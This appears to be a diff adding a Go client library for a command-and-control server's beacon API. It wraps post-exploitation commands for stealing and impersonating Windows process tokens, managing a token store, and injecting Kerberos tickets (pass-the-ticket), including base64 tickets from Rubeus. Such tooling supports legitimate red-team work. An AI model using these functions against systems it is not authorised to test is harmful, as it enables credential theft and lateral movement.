@@ -0,0 +1,190 @@
+package csclient
+
+import (
+	"context"
+	"encoding/base64"
+	"fmt"
+	"strconv"
+	"strings"
+)
+
+// StealTokenDto steals the access token of a process
+type StealTokenDto struct {
+	PID        int `json:"pid"`
+	AccessMask int `json:"accessMask,omitempty"`
+}
+
+// TokenStoreStealDto steals a token into the token store. The OpenAPI spec
+// reuses the output schema for this request; only the PID is meaningful.
+type TokenStoreStealDto struct {
+	PID int `json:"pid"`
+}
+
+// TokenStoreStealAndUseDto steals a token into the token store and impersonates it
+type TokenStoreStealAndUseDto struct {
+	PID        int `json:"pid"`
+	AccessMask int `json:"accessMask,omitempty"`
+}
+
+// TokenStoreUseDto impersonates a token from the token store
+type TokenStoreUseDto struct {
+	ID int `json:"id"`
+}
+
+// TokenStoreRemoveDto removes tokens from the token store
+type TokenStoreRemoveDto struct {
+	IDs []int `json:"ids"`
+}
+
+// StealToken impersonates the access token of process pid
+func (c *Client) StealToken(ctx context.Context, bid string, pid int) (*AsyncCommandResponse, error) {
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to steal token: %w", err)
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/stealToken")
+	if err != nil {
+		return nil, fmt.Errorf("failed to steal token: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, StealTokenDto{PID: pid}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to steal token: %w", err)
+	}
+	return &resp, nil
+}
+
+// TokenStoreSteal steals the token of process pid into the token store without
+// impersonating it. The stored token is reported as a TokenStoreStealOutputDto.
+func (c *Client) TokenStoreSteal(ctx context.Context, bid string, pid int) (*AsyncCommandResponse, error) {
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to steal token into token store: %w", err)
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/tokenStore/steal")
+	if err != nil {
+		return nil, fmt.Errorf("failed to steal token into token store: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, TokenStoreStealDto{PID: pid}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to steal token into token store: %w", err)
+	}
+	return &resp, nil
+}
+
+// TokenStoreStealAndUse steals the token of process pid into the token store and impersonates it
+func (c *Client) TokenStoreStealAndUse(ctx context.Context, bid string, pid int) (*AsyncCommandResponse, error) {
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to steal and use token: %w", err)
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/tokenStore/stealAndUse")
+	if err != nil {
+		return nil, fmt.Errorf("failed to steal and use token: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, TokenStoreStealAndUseDto{PID: pid}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to steal and use token: %w", err)
+	}
+	return &resp, nil
+}
+
+// TokenStoreUse impersonates the token with the given token store ID
+func (c *Client) TokenStoreUse(ctx context.Context, bid string, id int) (*AsyncCommandResponse, error) {
+	if id < 0 {
+		return nil, fmt.Errorf("failed to use token: %w", &ValidationError{Field: "token ID", Value: strconv.Itoa(id), Reason: "must not be negative"})
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/tokenStore/use")
+	if err != nil {
+		return nil, fmt.Errorf("failed to use token: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, TokenStoreUseDto{ID: id}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to use token: %w", err)
+	}
+	return &resp, nil
+}
+
+// TokenStoreShow lists the token store; the tokens are reported as a TokenStoreDto
+func (c *Client) TokenStoreShow(ctx context.Context, bid string) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/state/tokenStore")
+	if err != nil {
+		return nil, fmt.Errorf("failed to show token store: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, EmptyDto{}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to show token store: %w", err)
+	}
+	return &resp, nil
+}
+
+// TokenStoreRemove removes tokens from the token store
+func (c *Client) TokenStoreRemove(ctx context.Context, bid string, ids ...int) (*AsyncCommandResponse, error) {
+	if len(ids) == 0 {
+		return nil, fmt.Errorf("failed to remove tokens: %w", &ValidationError{Field: "token IDs", Reason: "at least one ID is required"})
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/tokenStore/remove")
+	if err != nil {
+		return nil, fmt.Errorf("failed to remove tokens: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, TokenStoreRemoveDto{IDs: ids}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to remove tokens: %w", err)
+	}
+	return &resp, nil
+}
+
+// TokenStoreRemoveAll empties the token store
+func (c *Client) TokenStoreRemoveAll(ctx context.Context, bid string) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/tokenStore/removeAll")
+	if err != nil {
+		return nil, fmt.Errorf("failed to remove all tokens: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, EmptyDto{}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to remove all tokens: %w", err)
+	}
+	return &resp, nil
+}
+
+// KerberosTicketUseDto injects a Kerberos ticket into the beacon's logon session
+type KerberosTicketUseDto struct {
+	Ticket string            `json:"ticket"`          // @files/ or @artifacts/ reference
+	Files  map[string]string `json:"files,omitempty"` // Map of file key -> base64 content
+}
+
+// KerberosTicketUse injects a kirbi ticket into the beacon's logon session (pass-the-ticket)
+func (c *Client) KerberosTicketUse(ctx context.Context, bid string, ticket []byte) (*AsyncCommandResponse, error) {
+	if len(ticket) == 0 {
+		return nil, fmt.Errorf("failed to use kerberos ticket: %w", &ValidationError{Field: "ticket", Reason: "must not be empty"})
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/kerberos/ticket/use")
+	if err != nil {
+		return nil, fmt.Errorf("failed to use kerberos ticket: %w", err)
+	}
+	ref, files := attachFile("ticket.kirbi", ticket)
+	if err := c.doRequest(ctx, "POST", path, KerberosTicketUseDto{Ticket: ref, Files: files}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to use kerberos ticket: %w", err)
+	}
+	return &resp, nil
+}
+
+// KerberosTicketUseBase64 injects a base64 kirbi ticket as printed by Rubeus;
+// whitespace and line breaks in the blob are ignored
+func (c *Client) KerberosTicketUseBase64(ctx context.Context, bid string, ticket string) (*AsyncCommandResponse, error) {
+	data, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(ticket), ""))
+	if err != nil {
+		return nil, fmt.Errorf("failed to decode kerberos ticket: %w", err)
+	}
+	return c.KerberosTicketUse(ctx, bid, data)
+}
+
+// KerberosTicketPurge purges the Kerberos tickets of the beacon's logon session
+func (c *Client) KerberosTicketPurge(ctx context.Context, bid string) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/kerberos/ticket/purge")
+	if err != nil {
+		return nil, fmt.Errorf("failed to purge kerberos tickets: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, EmptyDto{}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to purge kerberos tickets: %w", err)
+	}
+	return &resp, nil
+}